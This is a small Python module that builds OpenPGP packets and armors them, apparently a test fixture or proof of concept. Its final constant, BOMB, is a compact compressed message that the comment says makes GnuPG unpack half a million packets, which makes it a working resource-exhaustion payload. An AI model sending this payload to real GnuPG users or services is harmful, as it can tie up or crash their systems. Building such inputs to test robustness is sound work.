"""Build OpenPGP packets."""

import base64
import bz2


def packet(tag: int, content: bytes) -> bytes:
    return bytes([0xC0 | tag, 0xFF]) + len(content).to_bytes(4, "big") + content


def literal(text: bytes, name: bytes = b"") -> bytes:
    return packet(11, b"b" + bytes([len(name)]) + name + bytes(4) + text)


def compress(packets: bytes) -> bytes:
    return packet(8, b"\3" + bz2.compress(packets))


def armor(*packets: bytes, kind: str = "MESSAGE") -> bytes:
    content = b"".join(packets)
    checksum = 0xB704CE
    for byte in content:
        checksum ^= byte << 16
        for _ in range(8):
            checksum = checksum << 1 ^ (0x1864CFB if checksum & 0x800000 else 0)
    lines = base64.encodebytes(content).decode()
    last = base64.b64encode(checksum.to_bytes(3, "big")).decode()
    return f"-----BEGIN PGP {kind}-----\n\n{lines}={last}\n-----END PGP {kind}-----\n".encode()


# A kilobyte from which GnuPG would unpack half a million packets.
BOMB = armor(compress(packet(4, bytes([3, 0, 8, 22]) + b"\1" * 8 + b"\1") * 500_000))
